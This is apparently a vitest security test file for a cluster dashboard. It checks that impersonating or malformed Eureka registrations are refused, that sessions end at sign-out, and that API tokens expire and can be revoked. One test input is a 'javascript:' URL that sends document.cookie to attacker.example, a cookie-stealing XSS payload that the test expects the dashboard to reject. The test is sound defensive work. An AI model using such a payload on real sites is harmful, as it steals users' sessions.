import { readdirSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Cluster } from '../../src/cluster.js'
import { eventually, member } from '../helpers/cluster.js'
import { startDashboardProcess, type DashboardProcess } from '../helpers/dashboard.js'
import { testDatabase, type TestDatabase } from '../helpers/db.js'
import { SseReader } from '../helpers/sse.js'

const password = 'dashboard-hostile-password'
const basic = { authorization: `Basic ${Buffer.from(`admin:${password}`).toString('base64')}` }

const openFds = (pid: number) => readdirSync(`/proc/${pid}/fd`).length

describe('the dashboard under attack', () => {
  let db: TestDatabase
  let live: Cluster
  let dash: DashboardProcess

  beforeAll(async () => {
    db = await testDatabase()
    live = await member(db.url, 'instance-1', { advertiseUrl: 'http://127.0.0.1:9' })
    dash = await startDashboardProcess(db.url, password)
  })

  afterAll(async () => {
    await dash?.stop()
    await live?.close()
    await db?.drop()
  })

  const login = async () => {
    const res = await fetch(`${dash.url}/login`, { method: 'POST', headers: { 'content-type': 'application/json', origin: dash.url }, body: JSON.stringify({ password }) })
    expect(res.status).toBe(200)
    return { cookie: res.headers.get('set-cookie')!.split(';')[0]!, csrf: ((await res.json()) as { csrf: string }).csrf }
  }
  const get = (path: string, headers: Record<string, string>) => fetch(`${dash.url}${path}`, { headers })
  const error = async (res: Response) => ((await res.json()) as { error: { code: string; message: string } }).error

  it('refuses Eureka registrations that impersonate a Chorus member or carry non-http(s) URLs, and keeps its sockets bounded', async () => {
    const register = (app: string, instance: Record<string, unknown>) =>
      fetch(`${dash.url}/eureka/apps/${app}`, { method: 'POST', headers: { ...basic, 'content-type': 'application/json' }, body: JSON.stringify({ instance: { hostName: 'attacker.example', port: 80, ...instance } }) })

    const reserved = await register('CHORUS', { instanceId: 'instance-1', homePageUrl: 'http://attacker.example/' })
    expect(reserved.status).toBe(409)
    expect(await error(reserved)).toMatchObject({ code: 'CHORUS_ERR_DASHBOARD_EUREKA_RESERVED' })
    const clash = await register('ORDERS', { instanceId: 'instance-1' })
    expect(clash.status).toBe(409)
    expect(await error(clash)).toMatchObject({ code: 'CHORUS_ERR_DASHBOARD_EUREKA_CONFLICT', message: expect.stringContaining('instance-1') })
    const script = await register('ORDERS', { instanceId: 'o-1', homePageUrl: 'javascript:fetch("//attacker.example/"+document.cookie)' })
    expect(script.status).toBe(400)
    expect((await error(script)).message).toMatch(/instance\.homePageUrl must be an absolute http:\/\/ or https:\/\/ URL/)
    const long = await register('ORDERS', { instanceId: 'o-1', hostName: 'h'.repeat(300) })
    expect(long.status).toBe(400)
    expect((await error(long)).message).toMatch(/instance\.hostName must be at most 255 characters/)
    expect((await register('ORDERS', { instanceId: 'o-1', homePageUrl: 'http://127.0.0.1:9090/' })).status).toBe(204)

    const apps = (await (await get('/eureka/apps', { ...basic, accept: 'application/json' })).json()) as {
      applications: { application: { name: string; instance: { instanceId: string; homePageUrl: string }[] }[] }
    }
    const byApp = Object.fromEntries(apps.applications.application.map((a) => [a.name, a.instance.map((i) => `${i.instanceId} ${i.homePageUrl}`)]))
    expect(byApp).toEqual({ CHORUS: ['instance-1 http://127.0.0.1:9'], ORDERS: ['o-1 http://127.0.0.1:9090/'] })

    // A flood of refused registrations leaves the dashboard's open files where they were.
    const pid = dash.child.pid!
    const base = openFds(pid)
    for (let round = 0; round < 4; round++) {
      const answers = await Promise.all(Array.from({ length: 50 }, () => register('CHORUS', { instanceId: 'instance-1' })))
      for (const a of answers) {
        expect(a.status).toBe(409)
        await a.body?.cancel()
      }
    }
    // Idle keep-alive connections close on the server's keep-alive timeout (5 s).
    const after = await eventually(() => (openFds(pid) <= base + 2 ? openFds(pid) : null), 'the dashboard back to its baseline of open files', 20_000, 100)
    console.log(`200 refused registrations: dashboard fds ${base} → ${after}`)
  })

  it('ends a session on the server at sign-out (its open stream too), and the ended cookie stays refused after a restart', async () => {
    const ended = await login()
    const kept = await login()
    expect((await get('/api/instances', { cookie: ended.cookie })).status).toBe(200)
    const { reader, status } = await SseReader.open(`${dash.url}/api/stream`, { cookie: ended.cookie })
    expect(status).toBe(200)
    await reader.next((e) => e.event === 'snapshot', 5000, 'a snapshot')

    const out = await fetch(`${dash.url}/logout`, { method: 'POST', headers: { cookie: ended.cookie, origin: dash.url }, redirect: 'manual' })
    expect(out.status).toBe(303)
    expect(out.headers.get('set-cookie')).toMatch(/Max-Age=0/)
    // A copy of the cookie (another tab, a stolen one) no longer works: not for the API, the page or the stream.
    const refused = await get('/api/instances', { cookie: ended.cookie })
    expect(refused.status).toBe(401)
    expect((await error(refused)).message).toMatch(/signed out/)
    expect((await get('/', { cookie: ended.cookie })).status).toBe(401)
    expect((await SseReader.open(`${dash.url}/api/stream`, { cookie: ended.cookie })).status).toBe(401)
    await eventually(() => reader.next(() => false, 1, 'end').catch((err: Error) => /the stream ended/.test(err.message)), 'the open stream closed', 5000, 50)
    reader.close()
    expect((await get('/api/instances', { cookie: kept.cookie })).status).toBe(200)

    await dash.stop()
    dash = await startDashboardProcess(db.url, password)
    expect((await get('/api/instances', { cookie: ended.cookie })).status).toBe(401)
    expect((await get('/api/instances', { cookie: kept.cookie })).status).toBe(200)
  })

  it('lists API tokens, lets them expire, revokes them at once, and the revocation holds after a restart', async () => {
    const bearer = (token: string) => ({ authorization: `Bearer ${token}` })
    const startup = dash.token
    expect((await get('/api/instances', bearer(startup))).status).toBe(200)
    const create = (body: unknown) =>
      fetch(`${dash.url}/api/tokens`, { method: 'POST', headers: { ...bearer(startup), 'content-type': 'application/json' }, body: JSON.stringify(body) })

    const scrapeRes = await create({ name: 'prometheus' })
    expect(scrapeRes.status).toBe(201)
    const scrape = (await scrapeRes.json()) as { id: string; token: string; name: string; expiresAt: string }
    expect(scrape).toMatchObject({ name: 'prometheus', token: expect.stringMatching(/^chd_/) })
    expect(Date.parse(scrape.expiresAt) - Date.now()).toBeGreaterThan(29 * 24 * 3600_000) // the default lifetime, 30 days
    expect((await create({ ttlSeconds: 0 })).status).toBe(400)
    expect((await create({ ttlSeconds: 400 * 24 * 3600 })).status).toBe(400)

    const listed = (await (await get('/api/tokens', bearer(scrape.token))).json()) as { tokens: { id: string; name: string; current: boolean; expiresAt: string }[] }
    expect(listed.tokens.map((t) => t.name).sort()).toEqual(['dashboard', 'prometheus'])
    expect(listed.tokens.find((t) => t.current)!.id).toBe(scrape.id)
    expect(JSON.stringify(listed)).not.toContain('chd_')

    const short = (await (await create({ name: 'ci', ttlSeconds: 2 })).json()) as { id: string; token: string }
    const first = await get('/api/instances', bearer(short.token))
    expect([200, 401]).toContain(first.status) // 401 only if this machine took over 2 s to get here
    const expired = await eventually(async () => {
      const res = await get('/api/instances', bearer(short.token))
      return res.status === 401 ? res : null
    }, 'the 2 s token to expire', 10_000, 200)
    expect((await error(expired)).message).toMatch(/expired or was revoked/)

    const { reader } = await SseReader.open(`${dash.url}/api/stream`, bearer(scrape.token))
    await reader.next((e) => e.event === 'snapshot', 5000, 'a snapshot')
    const revoke = await fetch(`${dash.url}/api/tokens/${scrape.id}/revoke`, { method: 'POST', headers: bearer(startup) })
    expect(revoke.status).toBe(200)
    expect(await revoke.json()).toEqual({ id: scrape.id, revoked: true })
    expect((await get('/api/instances', bearer(scrape.token))).status).toBe(401)
    expect((await get('/metrics', bearer(scrape.token))).status).toBe(401)
    await eventually(() => reader.next(() => false, 1, 'end').catch((err: Error) => /the stream ended/.test(err.message)), 'the stream of the revoked token closed', 5000, 50)
    reader.close()
    expect((await fetch(`${dash.url}/api/tokens/${scrape.id}/revoke`, { method: 'POST', headers: bearer(startup) })).status).toBe(404)

    await dash.stop()
    dash = await startDashboardProcess(db.url, password)
    expect(dash.token).toBe(startup) // the printed token is reused, not piled up
    expect((await get('/api/instances', bearer(scrape.token))).status).toBe(401)
    expect((await get('/api/instances', bearer(startup))).status).toBe(200)
    const after = (await (await get('/api/tokens', bearer(startup))).json()) as { tokens: { name: string }[] }
    expect(after.tokens.map((t) => t.name)).toEqual(['dashboard'])
  })
})
